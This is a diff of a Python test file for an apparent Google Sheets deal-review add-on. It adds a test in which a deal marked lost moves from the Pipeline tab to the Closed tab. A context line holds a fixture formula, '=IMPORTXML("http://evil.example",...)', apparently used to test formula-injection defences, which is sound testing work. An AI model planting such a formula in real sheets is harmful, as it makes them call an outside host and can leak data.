@@ -5,6 +5,7 @@ from __future__ import annotations
 import uuid
 from collections.abc import Iterator
 from dataclasses import asdict
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -20,6 +21,7 @@ from addon.domain.review_layout import grid_capacity
 from addon.domain.teams import find_team, load_teams
 from addon.services.consolidate import Consolidator
 from addon.services.context import Services, today
+from addon.store import OutcomeRecord
 from localgoogle.server import Running
 
 FORMULA_TEXT = '=IMPORTXML("http://evil.example","//a")'
@@ -145,6 +147,28 @@ def test_a_review_with_nothing_changed_costs_the_change_feed_only_for_5_deals_an
         assert review.frames == {}  # the same inputs as the last review: nothing recomputed
         assert writes.total == 0, writes
         assert reads.as_json() == {"sheets": 0, "drive": 1}  # catch-up tick: nothing to read
+
+
+def test_an_outcome_set_with_no_edit_to_the_plan_is_reviewed_again(
+    local_google: Running, tmp_path: Path, manager: str
+) -> None:
+    """What the seller said of a deal's end is an input of the review of its own: a deal
+    marked lost (here straight in the store, nothing written to its plan) leaves the Pipeline
+    for the Closed tab on the next consolidate."""
+    services = _services(local_google, tmp_path, manager)
+    try:
+        _pipeline(services, 2, uuid.uuid4().int % 10_000)
+        Consolidator(services).run()
+        with services.store.transaction() as tx:
+            lost = tx.deals.newest_first()[0]
+            when = datetime.now(UTC)
+            tx.outcomes.record(OutcomeRecord(lost.deal_id, "lost", when.date(), manager, when))
+        (review,), _, _ = Consolidator(services).run()
+    finally:
+        services.close()
+    assert review.written != "nothing"
+    assert list(review.frames["Closed"]["deal_id"]) == [lost.deal_id]
+    assert lost.deal_id not in set(review.frames["Pipeline"]["deal_id"])
 
 
 def test_the_structure_is_written_only_when_it_changes(services: Services, manager: str) -> None:
